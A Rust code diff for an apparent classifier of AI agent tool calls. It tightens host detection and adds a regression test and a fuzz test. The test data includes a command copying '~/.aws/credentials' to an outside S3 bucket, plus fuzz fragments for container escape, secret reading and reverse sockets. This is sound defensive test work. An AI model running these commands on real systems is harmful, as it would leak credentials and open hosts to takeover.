@@ -1145,9 +1145,11 @@ fn client_host(cmd: &str) -> Option<String> {
     None
 }
 
-/// Whether `h` can be a host name or address (letters, digits, `.`, `-`, `:`, `[`, `]`).
+/// Whether `h` can be a host name or address (letters, digits, `.`, `-`, `:`, `[`, `]`; not
+/// an option such as the `-p` after a bare `-h`).
 fn plausible_host(h: &str) -> bool {
     !h.is_empty()
+        && !h.starts_with('-')
         && h.chars()
             .all(|c| c.is_ascii_alphanumeric() || ".-:[]".contains(c))
 }
@@ -1498,6 +1500,7 @@ mod tests {
             bash("psql -U app -d local_db"),
             bash("nmap --help"),
             bash("aws s3 cp ~/.aws/credentials s3://drop-bucket/"),
+            bash("redis-cli -h -p 6380 ping"),
         ]);
         for (k, kind) in [
             (0, TargetKind::PrivateNetwork),
@@ -1522,6 +1525,8 @@ mod tests {
         assert_eq!(v[9].target_kind, TargetKind::Secret);
         assert_eq!(v[9].destination_kind, DestinationKind::ExternalDomain);
         assert_eq!(v[9].data_flow, DataFlow::LocalToExternal);
+        // A bare `-h` names no host.
+        assert_ne!(v[10].operation, Operation::NetworkRequest);
     }
 
     #[test]
@@ -1650,6 +1655,26 @@ mod tests {
             let _ = n.normalize(&call);
             let _ = n.normalize(&RawCall::new("bash", &[("command", &value)]));
             let _ = n.normalize(&RawCall::new("web_fetch", &[("url", &format!("http://{value}"))]));
+        }
+
+        /// Commands built from the pieces the client, socket, environment and secret-store
+        /// rules look for, cut and joined at random (a flag with no value, a host with no
+        /// digits after its dots, a scheme at the very end, multi-byte characters between).
+        #[test]
+        fn never_panics_on_pieces_of_client_commands(
+            pieces in proptest::collection::vec(proptest::sample::select(vec![
+                "psql", "-h", "-h10.0.", "--host=", "--host", "redis-cli", "nmap", "telnet",
+                "10.0.3.17", "1.2.3.", "999.1.1.1", "/24", "postgres://", "s3://", "mongodb+srv://",
+                "@", ":", ",", "socket", "connect((", "'", "\"", "fsockopen", "env", "printenv",
+                "|", ">", ";", "&&", "ssh", "-r", "-R9000", "useradd", "chmod", "/bin/", "-v /:/",
+                "nsenter -t 1 ", "kubectl get secret", "é", "１", "\u{200b}", " ", "",
+            ]), 0..14),
+            sep in proptest::sample::select(vec![" ", "", "\t", "/"]),
+        ) {
+            let cmd = pieces.join(sep);
+            let mut n = IntentNormalizer::default();
+            let _ = n.normalize(&RawCall::new("bash", &[("command", &cmd)]));
+            let _ = n.normalize(&RawCall::new("run_query", &[("query", &cmd)]));
         }
     }
 
